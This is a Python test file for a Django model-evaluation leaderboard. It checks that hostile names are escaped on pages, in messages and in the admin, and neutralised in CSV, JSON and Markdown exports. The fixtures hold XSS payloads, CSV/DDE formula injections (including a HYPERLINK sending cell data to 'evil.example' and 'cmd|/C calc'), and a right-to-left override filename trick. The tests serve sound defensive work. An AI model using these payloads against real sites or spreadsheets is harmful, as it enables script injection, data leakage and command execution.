"""Hostile text in every name and description: escaped on every page (and in messages and the admin), neutralised
in the exports (CSV formulas, Markdown tables, HTML in Markdown)."""

import csv
import io
import json

import pytest
from django.conf import settings
from django.urls import reverse
from django.utils.html import escape

from evaluations.models import Evaluation
from rankings.models import DeploymentSelection
from tests import factories

from .conftest import World, site_client
from .test_site_permissions import SITE

pytestmark = pytest.mark.django_db


def script(n: int) -> str:
    return f"<script>alert({n})</script>"


def img(n: int) -> str:
    return f'"><img src=x onerror=alert({n})>'


def hostile(n: int) -> str:
    return f"x{n}{script(n)}{img(n)}"


# Every field a person (or a result file) can type that a page shows: its number in the payload.
FIELDS = {
    "model.name": 1,
    "model.description": 2,
    "model.architecture": 3,
    "model.license": 4,
    "training.name": 5,
    "training.description": 6,
    "checkpoint.label": 7,
    "benchmark.name": 8,
    "benchmark.description": 9,
    "benchmark.category": 10,
    "benchmark.slug": 11,
    "metric.name": 12,
    "tag.name": 13,
    "leaderboard.name": 14,
    "leaderboard.description": 15,
    "evaluation.error": 16,
    "evaluation.worker": 17,
    "deployment.reason": 18,
    "other_metric.key": 19,  # a metric without a display name shows its key
    "evaluation.harness": 20,
    "training.config": 21,
}


@pytest.fixture
def hostile_world(world: World) -> World:
    h = {field: hostile(n) for field, n in FIELDS.items()}
    training = world.checkpoint.training
    model = training.model
    model.name, model.description, model.architecture, model.license = (
        h[f"model.{f}"] for f in ("name", "description", "architecture", "license")
    )
    model.save()
    training.name, training.description = h["training.name"], h["training.description"]
    training.config = {"note": h["training.config"]}
    training.save()
    world.checkpoint.label = h["checkpoint.label"][:100]
    world.checkpoint.save()
    benchmark = world.benchmark
    benchmark.name, benchmark.description = h["benchmark.name"], h["benchmark.description"]
    benchmark.category, benchmark.slug = h["benchmark.category"], h["benchmark.slug"]
    benchmark.save()
    world.metric.name = h["metric.name"]
    world.metric.save()
    world.tag.name = script(FIELDS["tag.name"])  # a tag is a slug of at most 50 characters: the shorter payload
    world.tag.save()
    for board in (world.board, world.private_board):
        board.name, board.description = h["leaderboard.name"], h["leaderboard.description"]
        board.save()
    other = factories.metric(benchmark=benchmark, key=h["other_metric.key"], is_primary=False)
    factories.score(metric=other, value=0.25, checkpoint_obj=world.checkpoint)
    factories.evaluation(
        checkpoint_obj=world.checkpoint, benchmark_obj=world.missing, status="failed", error=h["evaluation.error"]
    )
    Evaluation.objects.filter(pk=world.running.pk).update(worker=h["evaluation.worker"])
    Evaluation.objects.filter(benchmark=benchmark).update(harness=h["evaluation.harness"])
    DeploymentSelection.select(world.checkpoint, reason=h["deployment.reason"])
    return world


def pages(w: World) -> list[tuple[str, dict]]:
    """Every page of the matrix, and the variants that show more: filters applied, fragments, the admin."""
    urls = [
        (case.url(w), {})
        for cases in SITE.values()
        for case in cases
        if case.expected.get("GET", {}).get("staff") == 200
    ]
    model, training = w.checkpoint.training.model, w.checkpoint.training
    board = reverse("rankings:leaderboard", args=[w.board.slug])
    filtered = f"?model={model.pk}&training={training.pk}&tag={w.tag.pk}&category={w.benchmark.category}&best_only=0"
    urls += [
        (f"{board}{filtered}", {}),
        (f"{board}{filtered}", {"HTTP_HX_REQUEST": "true"}),
        (f"{reverse('rankings:training', args=[training.pk])}?overlay=1", {}),
        (f"{reverse('rankings:across')}?metric={w.metric.pk}&metric={w.metric.pk + 1}", {}),
        (f"{reverse('evaluations:queue')}?status=all", {}),
        (f"{reverse('evaluations:queue')}?status=all", {"HTTP_HX_REQUEST": "true"}),
        (f"{reverse('evaluations:coverage')}?include_inactive=on&category={w.benchmark.category}", {}),
        (f"{reverse('evaluations:request')}?checkpoint={w.checkpoint.pk}", {}),
    ]
    for name in ("modelfamily", "training", "checkpoint", "benchmark", "metric", "tag", "evaluation"):
        urls.append((reverse(f"admin:evaluations_{name}_changelist"), {}))
    for name in ("leaderboard", "deploymentselection"):
        urls.append((reverse(f"admin:rankings_{name}_changelist"), {}))
    urls += [(reverse("admin:evaluations_modelfamily_change", args=[model.pk]), {})]
    urls += [(reverse("admin:evaluations_benchmark_change", args=[w.benchmark.pk]), {})]
    urls += [(reverse("admin:rankings_leaderboard_change", args=[w.board.pk]), {})]
    return urls


def test_hostile_names_are_escaped_on_every_page(hostile_world):
    client = site_client("superuser")
    shown = set()
    for url, headers in pages(hostile_world):
        response = client.get(url, **headers)
        assert response.status_code == 200, url
        html = response.content.decode()
        for field, n in FIELDS.items():
            assert script(n) not in html, (url, field)
            assert img(n) not in html, (url, field)
            if escape(script(n)) in html:
                shown.add(field)
    assert set(FIELDS) - shown == set(), "fields no page showed"


def test_messages_naming_hostile_objects_are_escaped(hostile_world):
    w = hostile_world
    client = site_client("permitted")
    responses = [
        client.post(reverse("evaluations:cancel", args=[w.pending.pk]), follow=True),
        client.post(reverse("rankings:select_deployment", args=[w.checkpoint.pk]), follow=True),
        client.post(
            reverse("evaluations:request"), {"checkpoint": w.checkpoint.pk, "benchmarks": [w.benchmark.pk]}, follow=True
        ),
    ]
    for response in responses:
        html = response.content.decode()
        assert response.status_code == 200
        assert "<script>alert(" not in html
        assert "<img src=x" not in html
        assert "&lt;script&gt;alert(" in html  # the message is there, escaped


# Exports

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def formula_world(world: World) -> World:
    training, model = world.checkpoint.training, world.checkpoint.training.model
    model.name = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    model.save()
    training.name = "+cmd|' /C calc'!A0"
    training.save()
    world.benchmark.name = "@SUM(1+1)*cmd|' /C calc'!A0"
    world.benchmark.save()
    world.board.name = "-2+3 | <b>bold</b>"
    world.board.save()
    return world


def export(world: World, fmt: str) -> str:
    response = site_client("anonymous").get(reverse("rankings:leaderboard", args=[world.board.slug]), {"_export": fmt})
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    return response.content.decode()


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_csv_cells_never_start_a_formula_header_included(formula_world):
    cells = [cell for row in csv.reader(io.StringIO(export(formula_world, "csv"))) for cell in row]
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"click")' in cells
    assert [cell for cell in cells if cell.startswith(FORMULA_PREFIXES) and not is_number(cell)] == []


def test_json_exports_keep_names_as_data(formula_world):
    payload = json.loads(export(formula_world, "json"))
    assert payload["leaderboard"] == "-2+3 | <b>bold</b>"
    assert payload["rows"][0]["Model"] == formula_world.checkpoint.training.model.name


def cells_of(line: str) -> list[str]:
    """A Markdown table row split on its unescaped pipes (a backslash escapes the next character)."""
    cells, current, escaped = [], "", False
    for char in line:
        if escaped:
            current, escaped = current + char, False
        elif char == "\\":
            current, escaped = current + char, True
        elif char == "|":
            cells.append(current)
            current = ""
        else:
            current += char
    return [*cells, current]


@pytest.mark.parametrize(
    "name", ["a|b", "a\\|b", "a\\", "line\nbreak\r\nagain", script(1), img(2), "<b>b</b>", "[x](javascript:alert(1))"]
)
def test_markdown_cells_cannot_break_the_table_or_carry_html(world, name):
    training = world.checkpoint.training
    training.name = name
    training.save()
    world.board.name = name
    world.board.save()
    text = export(world, "md")
    lines = text.splitlines()
    header = [line for line in lines if line.startswith("| Rank")][0]
    rows = lines[lines.index(header) + 2 :]
    assert len(rows) == 1
    assert len(cells_of(rows[0])) == len(cells_of(header))
    assert "<" not in text
    assert ">" not in text
    assert "[x](" not in text  # no link


def test_the_settings_of_a_csv_keep_names_and_filters_as_data(formula_world):
    """The settings left the CSV for a `Link`ed JSON document, where a name or a filter is a JSON string."""
    formula_world.board.name = "Main;=1+1"
    formula_world.board.save()
    url = reverse("rankings:leaderboard", args=[formula_world.board.slug])
    client = site_client("anonymous")
    response = client.get(url, {"_export": "csv", "q": "x,=1+1 ,+2"})
    assert "=1+1" not in response.content.decode()
    settings_url = response["Link"].split(">")[0].removeprefix("<")
    settings = json.loads(client.get(settings_url).content)
    assert (settings["leaderboard"], settings["filters"]["q"]) == ("Main;=1+1", "x,=1+1 ,+2")


def test_a_right_to_left_override_in_a_name_cannot_reorder_the_page_around_it(client):
    """U+202E in a training name would flip the status badge and the text after it into the name ("exe.png")."""
    name = "evil\u202egnp.exe"
    training = factories.checkpoint(training_name=name).training
    page = client.get(training.get_absolute_url()).content.decode()
    assert f"<h1><bdi>{name}</bdi> <span" in page
    assert f'<li aria-current="page"><bdi>{name}</bdi></li>' in page
    model_page = client.get(training.model.get_absolute_url()).content.decode()
    assert f"<h1><bdi>{training.model.name}</bdi></h1>" in model_page
    # Links and cells, where names appear everywhere else, are isolated by the stylesheet.
    stylesheet = (settings.BASE_DIR / "static" / "css" / "site.css").read_text()
    assert "a, td, th, dd, bdi {\n  unicode-bidi: isolate;" in stylesheet
